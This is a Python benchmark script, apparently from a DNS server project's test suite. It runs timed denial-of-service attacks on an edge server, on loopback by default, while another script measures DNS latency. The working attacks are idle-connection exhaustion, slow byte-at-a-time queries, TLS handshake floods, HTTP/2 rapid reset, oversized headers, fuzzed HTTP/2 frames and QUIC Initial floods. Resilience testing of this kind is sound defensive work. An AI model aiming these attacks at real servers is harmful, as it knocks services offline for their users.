"""Attacks an edge on loopback for a bounded time; started by siege.py, which measures DNS over UDP beside it.

    python -m tests.bench.siege_attack ATTACK HOST TLS_PORT HTTPS_PORT QUIC_PORT SECONDS

It prints a line of JSON when the attack is prepared, waits for a line of input, attacks for so long, and prints another
one: how much of it there was, in `count`.
"""

import asyncio
import contextlib
import json
import logging
import os
import random
import resource
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Final

import h2.config
import h2.connection
import h2.exceptions

IDLE_CONNECTIONS: Final = 10_000
PREPARE_S: Final = 120.0
AGAIN_S: Final = 0.2
AT_ONCE: Final = 64
"""Connections that are being opened at the same time, and those of an attack that needs few."""

QUERY: Final = bytes.fromhex("0007000001000001000000000000016107616c6c6f7765640474657374000001" "0001")
OVERSIZED_OCTETS: Final = 64 * 1024
INITIAL_OCTETS: Final = 1200


@dataclass
class Target:
    """What is attacked, and for how long; until: then it ends (time.monotonic). count: what was done."""

    host: str
    tls: int
    https: int
    quic: int
    seconds: float
    until: float = 0.0
    count: int = 0

    def stands(self) -> None:
        """Say that the attack is prepared, and wait until it may begin."""
        print(json.dumps({"prepared": self.count}), flush=True)
        sys.stdin.readline()
        self.until = time.monotonic() + self.seconds

    @property
    def goes_on(self) -> bool:
        """Whether time is left."""
        return time.monotonic() < self.until


def context(*protocols: str) -> ssl.SSLContext:
    """Return a client's context that verifies nothing: an attacker does not care."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    if protocols:
        made.set_alpn_protocols(list(protocols))
    return made


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def connected(target: Target, port: int, *protocols: str) -> Streams:
    """Open a connection over TLS."""
    return await asyncio.open_connection(target.host, port, ssl=context(*protocols))


async def idle(target: Target) -> None:
    """Hold IDLE_CONNECTIONS connections that never ask; count: those that stand at the end.

    Half of them wait before the handshake, at the port of DoT, the others after it, at that of DoH. One that the edge
    has ended is made again.
    """
    half = IDLE_CONNECTIONS // 2
    held: list[Streams | None] = [None] * IDLE_CONNECTIONS
    gate = asyncio.Semaphore(AT_ONCE)

    async def one(number: int) -> None:
        async with gate:
            with contextlib.suppress(OSError, EOFError):
                await drop(held[number])
                held[number] = None
                if number < half:
                    held[number] = await connected(target, target.https, "h2")
                else:
                    held[number] = await asyncio.open_connection(target.host, target.tls)

    async def again(until: float) -> None:
        """Make those that do not stand."""
        gone = [number for number, streams in enumerate(held) if not is_open(streams)]
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                await asyncio.gather(*map(one, gone))
        target.count = sum(map(is_open, held))

    until = time.monotonic() + PREPARE_S
    while target.count < IDLE_CONNECTIONS and time.monotonic() < until:
        await again(until)
    target.stands()
    while target.goes_on:
        await again(target.until)
        await asyncio.sleep(min(AGAIN_S, max(0.0, target.until - time.monotonic())))
    await asyncio.gather(*map(drop, held))


async def drop(streams: Streams | None) -> None:
    """End a connection at once."""
    if streams is not None:
        streams[1].transport.abort()
        with contextlib.suppress(OSError):
            await streams[1].wait_closed()


def is_open(streams: Streams | None) -> bool:
    """Return whether the other side has not ended a connection."""
    return streams is not None and not (streams[0].at_eof() or streams[1].is_closing())


async def slow(target: Target) -> None:
    """Send a query an octet at a time over many connections, and never read."""

    async def one() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError, EOFError):
                _, writer = await connected(target, target.tls)
                target.count += 1
                for octet in (len(QUERY).to_bytes(2, "big") + QUERY) * 8:
                    if not target.goes_on or writer.is_closing():
                        break
                    writer.write(bytes([octet]))
                    await asyncio.sleep(0.05)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(AT_ONCE)))


async def handshakes(target: Target) -> None:
    """Make whole handshakes, and go."""

    async def one() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError, EOFError):
                _, writer = await connected(target, target.https, "h2")
                target.count += 1
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(4)))


async def reset(target: Target) -> None:
    """Open streams of HTTP/2 and cancel each at once (rapid reset)."""

    def burst(connection: h2.connection.H2Connection) -> int:
        for _ in range(50):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, request(target), end_stream=True)
            connection.reset_stream(stream, error_code=8)
        return 50

    await over_http(target, burst)


async def headers(target: Target) -> None:
    """Send requests whose header list is far too large."""

    def burst(connection: h2.connection.H2Connection) -> int:
        stream = connection.get_next_available_stream_id()
        long = [(f"x-{number}", "v" * 1000) for number in range(OVERSIZED_OCTETS // 1000)]
        connection.send_headers(stream, [*request(target), *long], end_stream=True)
        return 1

    await over_http(target, burst)


async def garbage(target: Target) -> None:
    """Send frames of HTTP/2 with drawn types, flags, streams and payloads."""
    draw = random.Random(20)

    async def one() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError, EOFError):
                _, writer = await connected(target, target.https, "h2")
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000"))
                for _ in range(20):
                    payload = draw.randbytes(draw.randrange(64))
                    head = len(payload).to_bytes(3, "big") + bytes([draw.randrange(12), draw.randrange(256)])
                    writer.write(head + draw.randrange(16).to_bytes(4, "big") + payload)
                    target.count += 1
                await writer.drain()
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(8)))


async def initials(target: Target) -> None:
    """Send datagrams that look like the first of a QUIC connection, each from the same socket with an id of its own."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((target.host, target.quic))
        one.setblocking(False)
        while target.goes_on:
            with contextlib.suppress(OSError):
                head = b"\xc3\x00\x00\x00\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + b"\x00\x44\x9e"
                one.send(head.ljust(INITIAL_OCTETS, b"\x5a"))
                target.count += 1
            if target.count % 100 == 0:
                await asyncio.sleep(0)


def request(target: Target) -> list[tuple[str, str]]:
    """Return the header list of a GET."""
    host = f"{target.host}:{target.https}"
    return [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", "/dns-query?dns=AAAA")]


async def over_http(target: Target, burst: Callable[[h2.connection.H2Connection], int]) -> None:
    """Send bursts over a few connections of HTTP/2; one that the server closes is opened again."""

    async def one() -> None:
        while target.goes_on:
            with contextlib.suppress(OSError, EOFError, h2.exceptions.H2Error):
                reader, writer = await connected(target, target.https, "h2")
                connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                connection.initiate_connection()
                while target.goes_on and not writer.is_closing():
                    target.count += burst(connection)
                    writer.write(connection.data_to_send())
                    await writer.drain()
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(0.001):
                            data = await reader.read(65536)
                            if not data:
                                break
                            connection.receive_data(data)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(4)))


ATTACKS: Final[dict[str, Callable[[Target], Awaitable[None]]]] = {
    "idle connections": idle,
    "slow queries": slow,
    "handshakes": handshakes,
    "rapid reset": reset,
    "oversized headers": headers,
    "malformed frames": garbage,
    "first datagrams of QUIC": initials,
}


PREPARED: Final = ("idle connections",)
"""Those that say themselves when they stand."""


def main() -> int:
    """Attack, and print how often."""
    name, host, tls, https, quic, seconds = sys.argv[1:]
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # It says of each connection that it was closed.
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    target = Target(host, int(tls), int(https), int(quic), float(seconds))
    if name not in PREPARED:
        target.stands()
    asyncio.run(ATTACKS[name](target))
    print(json.dumps({"count": target.count}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
